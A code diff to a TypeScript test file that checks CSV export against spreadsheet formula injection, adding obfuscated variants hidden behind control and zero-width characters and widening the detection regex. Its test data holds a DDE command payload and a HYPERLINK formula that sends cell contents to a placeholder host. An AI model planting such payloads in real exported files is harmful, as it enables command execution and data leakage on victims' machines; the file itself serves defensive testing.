@@ -17,6 +17,9 @@ interface Answer {
 const formulas = [
   ...['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)'],
   ...[`=cmd|' /C calc'!A0`, '=HYPERLINK("http://192.0.2.1/?"&A1,"click")', ` =1+1`, `"=1+1`, `'=1+1`],
+  // LibreOffice and Gnumeric save a cell without its control characters; what is left would begin with the formula.
+  ...['\u0001=1+1', '\u000b@A1', '\u000c-1', '\u00a0=1+1', '\u200b+1', '\u2003=1+1', '\ufeff=1+1', '\u3000=1+1'],
+  ...['x;\u0001=1+1', 'x,\u00a0=1+1', 'x\t\u200b@A1', 'x\n\u000b=1+1'],
   ...['x;=1+1', 'x,=1+1', 'x\t=1+1', 'x\r\n=1+1', 'x\n@A1', 'x; "=1+1"', 'x;;;+1', `x;'"=1`, 'x;\n;－1', 'x","=1+1'],
 ]
 /** What is no formula, and comes back as it is. */
@@ -35,7 +38,8 @@ const names = [
 ]
 
 /** Whether a spreadsheet would take it for a formula. */
-const isFormula = (cell: string) => /^["'\s]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^["\s]*'/.test(cell)
+const isFormula = (cell: string) =>
+  /^["'\s\p{C}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell) && !/^["\s\p{C}]*'/u.test(cell)
 
 function csvAs({ agent }: Person) {
   const piece = async (resource: string, query: string) =>
